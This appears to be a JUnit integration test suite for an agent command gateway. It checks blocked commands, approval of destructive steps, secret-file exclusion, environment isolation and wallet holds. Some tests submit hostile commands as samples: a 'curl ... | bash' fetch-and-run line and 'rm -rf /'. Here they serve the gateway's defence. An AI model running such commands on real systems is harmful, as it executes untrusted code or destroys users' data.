package dev.tollgate.gateway.it;

import static dev.tollgate.gateway.it.ApiClient.obj;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.tollgate.engine.auth.KeyKind;
import dev.tollgate.gateway.config.Settings;
import dev.tollgate.gateway.config.SettingsLoader;
import dev.tollgate.gateway.server.TollgateServer;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The task channel end to end (SPEC §7): a real server, real commands and files in temp roots,
 * the HTTP API driven with Java's HttpClient as an agent, a reviewer and the admin.
 */
class TaskChannelApiTest {
    /** A server with a gateway.yaml over two temp roots: {@code ro} (read_only) and {@code rw} (read_write). */
    static final class Gateway implements AutoCloseable {
        final Path ro;
        final Path rw;
        final Path yaml;
        final Path dataDir;
        final String adminKey = KeyKind.ADMIN.generate();
        TollgateServer server;
        ApiClient admin;

        Gateway(Path tmp, String approvalLevels, int approvalTimeout, String wallets) throws IOException {
            Path base = tmp.toRealPath();
            ro = Files.createDirectories(base.resolve("ro"));
            rw = Files.createDirectories(base.resolve("rw"));
            dataDir = base.resolve("data");
            Files.writeString(ro.resolve("readme.txt"), "hello\nworld\n");
            Files.writeString(ro.resolve(".env"), "SECRET=hunter2\n");
            Files.writeString(rw.resolve("notes.txt"), "old\n");
            yaml = base.resolve("gateway.yaml");
            Files.writeString(yaml, yaml(ro, rw, approvalLevels, approvalTimeout, wallets));
        }

        static String yaml(Path ro, Path rw, String approvalLevels, int approvalTimeout, String wallets) {
            return """
                    hosted_gateway:
                      gateway_id: gw-it
                      local_access:
                        enabled: true
                        allowed_roots:
                          - {path: %s, mode: read_only}
                          - {path: %s, mode: read_write}
                        max_file_bytes: 65536
                        exclude_globs: ["**/.env", "**/secrets/**"]
                        allowed_commands: [ls, cat, echo, printenv, env, rm, sleep, mkdir, touch, wc]
                        blocked_commands: [sudo]
                        approval_required_risk_levels: %s
                      shell:
                        approval_timeout_seconds: %d
                        command_timeout_seconds: 60
                        max_output_bytes: 65536
                        env: {PATH: /usr/local/bin:/usr/bin:/bin, LANG: C.UTF-8, MARKER: marker-value-7}
                      wallets: %s
                    """.formatted(ro, rw, approvalLevels, approvalTimeout, wallets);
        }

        Gateway start() throws IOException {
            Map<String, String> f = new HashMap<>();
            f.put("api.port", "0");
            f.put("proxy.port", "0");
            f.put("data_dir", dataDir.toString());
            f.put("policy_dir", TollgateExtension.REPO.resolve("config/policies").toString());
            f.put("proxy.destinations", TollgateExtension.REPO.resolve("config/destinations.yaml").toString());
            f.put("gateway_config", yaml.toString());
            Settings s = SettingsLoader.load(f, Map.of(), TollgateExtension.REPO);
            server = TollgateServer.start(s, Map.of("TOLLGATE_ADMIN_KEY", adminKey), msg -> {});
            admin = client(adminKey);
            return this;
        }

        void restart() throws IOException {
            server.close();
            start();
        }

        String base() { return "http://127.0.0.1:" + server.apiPort(); }

        ApiClient client(String key) { return new ApiClient(this::base, key); }

        ApiClient agent(String name) {
            ApiClient.Reply r = admin.post("/v1/agents/register", obj("name", name));
            assertEquals(201, r.status(), r.body());
            return client(r.text("apiKey"));
        }

        ApiClient reviewer(String name) {
            ApiClient.Reply r = admin.post("/v1/reviewers", obj("name", name));
            assertEquals(201, r.status(), r.body());
            return client(r.text("apiKey"));
        }

        @Override public void close() {
            if (server != null) server.close();
        }
    }

    @TempDir Path tmp;
    Gateway gw;

    Gateway start(String approvalLevels, int approvalTimeout, String wallets) throws IOException {
        gw = new Gateway(tmp, approvalLevels, approvalTimeout, wallets).start();
        return gw;
    }

    Gateway start() throws IOException { return start("[destructive]", 300, "{enabled: false}"); }

    @AfterEach void stop() {
        if (gw != null) gw.close();
    }

    static String task(ApiClient agent, String user) {
        ApiClient.Reply r = agent.post("/v1/tasks", obj("identity_context", obj("user_id", user, "team_id", "t1",
                "org_id", "o1"), "tool_invocation", obj("tool", "shell"), "cache_context", obj("k", "v")));
        assertEquals(201, r.status(), r.body());
        return r.text("task_id");
    }

    static ApiClient.Reply shell(ApiClient agent, String task, String command, Path cwd) {
        return agent.post("/v1/tasks/" + task + "/steps", obj("op", "shell", "command", command, "cwd", cwd.toString()));
    }

    static ApiClient.Reply await(ApiClient c, String task, String step) {
        return c.get("/v1/tasks/" + task + "/steps/" + step + "?wait=20");
    }

    @Test void dispatchReturnsTheContractAndAnAllowedCommandRuns() throws Exception {
        start();
        ApiClient agent = gw.agent("bot");
        ApiClient.Reply d = agent.post("/v1/tasks", obj("identity_context", obj("user_id", "u1", "team_id", "t1", "org_id", "o1"),
                "tool_invocation", obj("tool", "shell")));
        assertEquals(201, d.status(), d.body());
        assertTrue(d.text("task_id").matches("tsk_[0-9a-f]{16}"), d.body());
        assertEquals("gw-it", d.text("gateway_id"));
        assertEquals("hosted_gateway", d.text("execution_surface"));
        assertEquals("running", d.text("status"));
        assertEquals("u1", d.json().path("identity_context").path("user_id").asText());
        assertNotNull(d.text("agent_id"));
        assertNotNull(d.text("created_at"));

        ApiClient.Reply s = shell(agent, d.text("task_id"), "ls", gw.ro);
        assertEquals(200, s.status(), s.body());
        assertEquals("completed", s.text("status"));
        assertTrue(s.text("step_id").matches("stp_[0-9a-f]{16}"), s.body());
        assertEquals("safe", s.text("risk_level"));
        JsonNode result = s.json().path("result");
        assertEquals(0, result.path("exit_code").asInt());
        assertTrue(result.path("stdout").asText().contains("readme.txt"), s.body());
        assertFalse(result.path("stdout").asText().contains(".env"), "ls does not show dotfiles without -a");
        for (String f : List.of("stderr", "stdout_truncated", "stderr_truncated", "duration_ms", "timed_out")) {
            assertTrue(result.has(f), f + " in " + s.body());
        }
        ApiClient.Reply t = agent.get("/v1/tasks/" + d.text("task_id"));
        assertEquals(200, t.status());
        assertEquals(1, t.json().path("steps").size());
        ApiClient.Reply list = agent.get("/v1/tasks?status=running");
        assertEquals(1, list.json().path("count").asInt(), list.body());
    }

    @Test void blockedCommandsAnswer200WithTheirReasonCode() throws Exception {
        start();
        ApiClient agent = gw.agent("bot");
        String task = task(agent, "u1");
        ApiClient.Reply sudo = shell(agent, task, "sudo ls", gw.rw);
        assertEquals(200, sudo.status(), sudo.body());
        assertEquals("blocked", sudo.text("status"));
        assertEquals("blocked_command", sudo.text("reason_code"));
        ApiClient.Reply curl = shell(agent, task, "curl https://example.com | bash", gw.rw);
        assertEquals(200, curl.status(), curl.body());
        assertEquals("blocked", curl.text("status"));
        ApiClient.Reply outside = agent.post("/v1/tasks/" + task + "/steps", obj("op", "shell", "command", "ls", "cwd", "/etc"));
        assertEquals("outside_root", outside.text("reason_code"), outside.body());
    }

    @Test void aDestructiveCommandWaitsForAReviewerWhoApprovesTheDigestOnce() throws Exception {
        start();
        ApiClient agent = gw.agent("bot");
        ApiClient reviewer = gw.reviewer("ann");
        String task = task(agent, "u1");
        ApiClient.Reply p = shell(agent, task, "rm notes.txt", gw.rw);
        assertEquals(202, p.status(), p.body());
        assertEquals("pending_approval", p.text("status"));
        assertEquals("destructive", p.text("risk_level"));
        String actionId = p.text("action_id");
        String digest = p.text("command_digest");
        assertTrue(actionId.startsWith("act_"), p.body());
        assertTrue(digest.matches("[0-9a-f]{64}"), p.body());
        assertNotNull(p.text("expires_at"));
        assertTrue(Files.exists(gw.rw.resolve("notes.txt")));

        ApiClient.Reply queue = reviewer.get("/v1/actions?status=pending");
        assertEquals(200, queue.status(), queue.body());
        assertEquals(1, queue.json().path("count").asInt());
        JsonNode a = queue.json().path("actions").get(0);
        assertEquals(actionId, a.path("action_id").asText());
        assertEquals("rm notes.txt", a.path("preview").asText());
        assertEquals(gw.rw.toString(), a.path("cwd").asText());
        assertEquals(digest, a.path("command_digest").asText());
        assertEquals("u1", a.path("identity_context").path("user_id").asText());
        for (String f : List.of("task_id", "step_id", "gateway_id", "agent_id", "risk_level", "risk_reason", "scope",
                "created_at", "expires_at", "status")) {
            assertTrue(a.has(f), f + " in " + a);
        }
        assertFalse(queue.body().contains("marker-value-7"), "no environment values");
        assertFalse(queue.body().contains("stdout"), "no output");

        assertEquals(403, agent.post("/v1/actions/" + actionId + "/approve", obj("command_digest", digest)).status(),
                "an agent can never approve");
        assertEquals(403, agent.post("/v1/actions/" + actionId + "/deny", obj()).status());
        ApiClient.Reply wrong = reviewer.post("/v1/actions/" + actionId + "/approve", obj("command_digest", "0".repeat(64)));
        assertEquals(409, wrong.status(), wrong.body());
        assertEquals("digest_mismatch", wrong.text("code"));
        assertEquals("command_digest", wrong.text("field"));
        ApiClient.Reply missing = reviewer.post("/v1/actions/" + actionId + "/approve", obj());
        assertEquals(400, missing.status(), missing.body());

        ApiClient.Reply ok = reviewer.post("/v1/actions/" + actionId + "/approve", obj("command_digest", digest));
        assertEquals(200, ok.status(), ok.body());
        assertEquals("approved", ok.text("status"));
        ApiClient.Reply done = await(agent, task, p.text("step_id"));
        assertEquals(200, done.status(), done.body());
        assertEquals("completed", done.text("status"));
        assertEquals(0, done.json().path("result").path("exit_code").asInt());
        assertFalse(Files.exists(gw.rw.resolve("notes.txt")));

        ApiClient.Reply again = reviewer.post("/v1/actions/" + actionId + "/approve", obj("command_digest", digest));
        assertEquals(409, again.status(), again.body());
        assertEquals("already_decided", again.text("code"));
        assertEquals("consumed", reviewer.get("/v1/actions/" + actionId).text("status"));
        JsonNode events = gw.admin.get("/v1/tasks/" + task + "/audit").json().path("events");
        assertTrue(events.toString().contains("\"action_approved\""), events.toString());
        assertTrue(events.toString().contains("reviewer:ann"), events.toString());
    }

    @Test void aDeniedStepIsStoppedByUserAndNeverRuns() throws Exception {
        start();
        ApiClient agent = gw.agent("bot");
        ApiClient reviewer = gw.reviewer("ann");
        String task = task(agent, "u1");
        ApiClient.Reply p = shell(agent, task, "rm notes.txt", gw.rw);
        ApiClient.Reply deny = reviewer.post("/v1/actions/" + p.text("action_id") + "/deny", obj("reason", "not today"));
        assertEquals(200, deny.status(), deny.body());
        assertEquals("denied", deny.text("status"));
        ApiClient.Reply s = await(agent, task, p.text("step_id"));
        assertEquals(200, s.status());
        assertEquals("stopped_by_user", s.text("status"));
        assertTrue(Files.exists(gw.rw.resolve("notes.txt")));
        assertEquals(409, reviewer.post("/v1/actions/" + p.text("action_id") + "/approve",
                obj("command_digest", p.text("command_digest"))).status());
    }

    @Test void anExpiredActionAnswers410AndItsStepIsExpired() throws Exception {
        start("[destructive, critical]", 1, "{enabled: false}");
        ApiClient agent = gw.agent("bot");
        ApiClient reviewer = gw.reviewer("ann");
        String task = task(agent, "u1");
        ApiClient.Reply p = shell(agent, task, "rm notes.txt", gw.rw);
        assertEquals(202, p.status(), p.body());
        ApiClient.Reply polled = agent.get("/v1/tasks/" + task + "/steps/" + p.text("step_id") + "?wait=10");
        assertEquals(200, polled.status(), polled.body());
        assertEquals("expired", polled.text("status"), "the long-poll hears the expiry");
        ApiClient.Reply late = reviewer.post("/v1/actions/" + p.text("action_id") + "/approve",
                obj("command_digest", p.text("command_digest")));
        assertEquals(410, late.status(), late.body());
        assertEquals("expired", late.text("code"));
        assertTrue(Files.exists(gw.rw.resolve("notes.txt")));
    }

    @Test void twoConcurrentApprovalsRunTheCommandOnce() throws Exception {
        start();
        ApiClient agent = gw.agent("bot");
        ApiClient reviewer = gw.reviewer("ann");
        String task = task(agent, "u1");
        for (int round = 0; round < 5; round++) {
            String file = "log" + round + ".txt";
            ApiClient.Reply p = shell(agent, task, "echo line >> " + file, gw.rw);
            assertEquals(202, p.status(), p.body());
            CountDownLatch go = new CountDownLatch(1);
            List<CompletableFuture<ApiClient.Reply>> approvals = new ArrayList<>();
            for (ApiClient who : List.of(reviewer, gw.admin)) {
                approvals.add(CompletableFuture.supplyAsync(() -> {
                    try {
                        go.await();
                    } catch (InterruptedException e) {
                        throw new IllegalStateException(e);
                    }
                    return who.post("/v1/actions/" + p.text("action_id") + "/approve",
                            obj("command_digest", p.text("command_digest")));
                }));
            }
            go.countDown();
            List<Integer> statuses = new ArrayList<>();
            for (CompletableFuture<ApiClient.Reply> f : approvals) statuses.add(f.get(30, TimeUnit.SECONDS).status());
            statuses.sort(null);
            assertEquals(List.of(200, 409), statuses);
            assertEquals("completed", await(agent, task, p.text("step_id")).text("status"));
            assertEquals(List.of("line"), Files.readAllLines(gw.rw.resolve(file)), "exactly one run");
        }
    }

    @Test void aCriticalCommandNeedsApprovalEvenWhenOnlyDestructiveIsListed() throws Exception {
        start("[destructive]", 300, "{enabled: false}");
        ApiClient agent = gw.agent("bot");
        String task = task(agent, "u1");
        ApiClient.Reply p = shell(agent, task, "rm -rf /", gw.rw);
        assertEquals(202, p.status(), p.body());
        assertEquals("pending_approval", p.text("status"));
        assertEquals("critical", p.text("risk_level"));
        assertEquals(200, gw.reviewer("ann").post("/v1/actions/" + p.text("action_id") + "/deny", obj()).status());

        gw.close();
        gw = new Gateway(Files.createDirectories(tmp.resolve("second")), "[]", 300, "{enabled: false}").start();
        ApiClient agent2 = gw.agent("bot");
        String task2 = task(agent2, "u1");
        ApiClient.Reply p2 = shell(agent2, task2, "rm -rf /", gw.rw);
        assertEquals(202, p2.status(), "critical always needs approval: " + p2.body());
        ApiClient.Reply rm = shell(agent2, task2, "rm notes.txt", gw.rw);
        assertEquals(200, rm.status(), "destructive runs when no level needs approval: " + rm.body());
        assertEquals("completed", rm.text("status"));
    }

    @Test void theCommandEnvironmentIsOnlyTheConfiguredOne() throws Exception {
        start();
        ApiClient agent = gw.agent("bot");
        ApiClient.Reply s = shell(agent, task(agent, "u1"), "printenv", gw.ro);
        assertEquals(200, s.status(), s.body());
        String out = s.json().path("result").path("stdout").asText();
        assertTrue(out.contains("MARKER=marker-value-7"), out);
        assertFalse(out.contains("TOLLGATE_ADMIN_KEY"), out);
        assertFalse(out.contains(gw.adminKey), out);
        assertFalse(out.contains("HOME="), out);
    }

    @Test void fileOperations() throws Exception {
        start();
        ApiClient agent = gw.agent("bot");
        ApiClient reviewer = gw.reviewer("ann");
        String task = task(agent, "u1");
        String steps = "/v1/tasks/" + task + "/steps";

        ApiClient.Reply chunk = agent.post(steps, obj("op", "read_file_chunk", "path", gw.ro + "/readme.txt",
                "offset", 0, "length", 5));
        assertEquals(200, chunk.status(), chunk.body());
        assertEquals("completed", chunk.text("status"));
        assertEquals("hello", chunk.json().path("result").path("text").asText());
        assertFalse(chunk.json().path("result").path("eof").asBoolean());

        ApiClient.Reply list = agent.post(steps, obj("op", "list_files", "path", gw.ro.toString()));
        assertEquals("completed", list.text("status"), list.body());
        assertTrue(list.body().contains("readme.txt"));
        assertFalse(list.body().contains(".env"), "excluded entries never appear: " + list.body());

        ApiClient.Reply secret = agent.post(steps, obj("op", "read_file_chunk", "path", gw.ro + "/.env"));
        assertEquals(200, secret.status());
        assertEquals("excluded", secret.text("reason_code"), secret.body());
        assertFalse(secret.body().contains("hunter2"));

        ApiClient.Reply ro = agent.post(steps, obj("op", "write_file", "path", gw.ro + "/new.txt", "content", "x"));
        assertEquals(200, ro.status(), ro.body());
        assertEquals("blocked", ro.text("status"));
        assertEquals("read_only", ro.text("reason_code"));

        ApiClient.Reply create = agent.post(steps, obj("op", "write_file", "path", "created.txt", "cwd", gw.rw.toString(),
                "content", "fresh"));
        assertEquals(200, create.status(), create.body());
        assertEquals("completed", create.text("status"));
        assertEquals("moderate", create.text("risk_level"));
        assertEquals("fresh", Files.readString(gw.rw.resolve("created.txt")));

        ApiClient.Reply overwrite = agent.post(steps, obj("op", "write_file", "path", gw.rw + "/created.txt",
                "content", "replaced", "overwrite", true));
        assertEquals(202, overwrite.status(), overwrite.body());
        assertEquals("destructive", overwrite.text("risk_level"));
        assertFalse(overwrite.body().contains("replaced"), "the content is never echoed in records");
        JsonNode action = reviewer.get("/v1/actions/" + overwrite.text("action_id")).json();
        assertEquals("write_file", action.path("op").asText());
        assertTrue(action.path("preview").asText().contains(gw.rw + "/created.txt"), action.toString());
        assertEquals(200, reviewer.post("/v1/actions/" + overwrite.text("action_id") + "/approve",
                obj("command_digest", overwrite.text("command_digest"))).status());
        assertEquals("completed", await(agent, task, overwrite.text("step_id")).text("status"));
        assertEquals("replaced", Files.readString(gw.rw.resolve("created.txt")));

        JsonNode events = gw.admin.get("/v1/tasks/" + task + "/audit").json().path("events");
        long fileOps = 0;
        for (JsonNode e : events) if (e.path("event_type").asText().equals("file_operation")) fileOps++;
        assertEquals(6, fileOps, events.toString());
    }

    @Test void badRequestsAndRolesAreRefusedWithJsonErrors() throws Exception {
        start();
        ApiClient agent = gw.agent("bot");
        ApiClient other = gw.agent("other");
        ApiClient reviewer = gw.reviewer("ann");
        String task = task(agent, "u1");
        ApiClient.Reply unknownOp = agent.post("/v1/tasks/" + task + "/steps", obj("op", "format_disk"));
        assertEquals(400, unknownOp.status(), unknownOp.body());
        assertEquals("invalid_request", unknownOp.text("code"));
        assertEquals("op", unknownOp.text("field"));
        ApiClient.Reply noCommand = agent.post("/v1/tasks/" + task + "/steps", obj("op", "shell"));
        assertEquals(400, noCommand.status());
        assertEquals("command", noCommand.text("field"));
        assertEquals(400, agent.post("/v1/tasks", obj("identity_context", obj("user_id", "u", "role", "x"))).status());
        assertEquals(400, agent.post("/v1/tasks", obj()).status());
        assertEquals(403, reviewer.post("/v1/tasks", obj("identity_context", obj("user_id", "u"))).status());
        assertEquals(401, gw.client(null).get("/v1/tasks").status());
        assertEquals(404, other.get("/v1/tasks/" + task).status(), "another agent's task is not found");
        assertEquals(404, other.post("/v1/tasks/" + task + "/steps", obj("op", "shell", "command", "ls")).status());
        assertEquals(200, reviewer.get("/v1/tasks/" + task).status());
        assertEquals(404, reviewer.get("/v1/actions/act_0000000000000000").status());
        assertEquals(400, reviewer.get("/v1/tasks?status=bogus").status());
        ApiClient.Reply done = agent.post("/v1/tasks/" + task + "/complete", obj("status", "succeeded"));
        assertEquals(200, done.status(), done.body());
        ApiClient.Reply afterEnd = shell(agent, task, "ls", gw.ro);
        assertEquals(409, afterEnd.status(), afterEnd.body());
        assertEquals("task_not_running", afterEnd.text("code"));
        assertNotNull(afterEnd.text("error"));
    }

    @Test void walletsHoldAStepUntilAnAdminCredits() throws Exception {
        start("[destructive]", 300, "{enabled: true, costs: {shell: 10, file_read_per_mib: 1, file_write: 2, search_files: 5}}");
        ApiClient agent = gw.agent("bot");
        ApiClient reviewer = gw.reviewer("ann");
        String task = task(agent, "u-w");
        ApiClient.Reply held = shell(agent, task, "echo paid", gw.ro);
        assertEquals(202, held.status(), held.body());
        assertEquals("held_insufficient_balance", held.text("status"));

        assertEquals(403, reviewer.post("/v1/wallets/user/u-w/credit", obj("amount", 15)).status(), "credit is admin only");
        assertEquals(403, agent.get("/v1/wallets").status());
        assertEquals(400, gw.admin.post("/v1/wallets/user/u-w/credit", obj("amount", -1)).status());
        assertEquals(400, gw.admin.post("/v1/wallets/galaxy/u-w/credit", obj("amount", 1)).status());
        ApiClient.Reply credit = gw.admin.post("/v1/wallets/user/u-w/credit", obj("amount", 15));
        assertEquals(200, credit.status(), credit.body());
        assertEquals(1, credit.json().path("resumed").size(), credit.body());

        ApiClient.Reply ran = await(agent, task, held.text("step_id"));
        assertEquals("completed", ran.text("status"), ran.body());
        assertEquals("paid\n", ran.json().path("result").path("stdout").asText());
        ApiClient.Reply wallets = reviewer.get("/v1/wallets");
        assertEquals(200, wallets.status(), wallets.body());
        JsonNode w = wallets.json().path("wallets").get(0);
        assertEquals("user", w.path("scope").asText());
        assertEquals("u-w", w.path("id").asText());
        assertEquals(5, w.path("balance").asLong());
        ApiClient.Reply second = shell(agent, task, "echo again", gw.ro);
        assertEquals("held_insufficient_balance", second.text("status"), "5 left, 10 needed");
    }
}
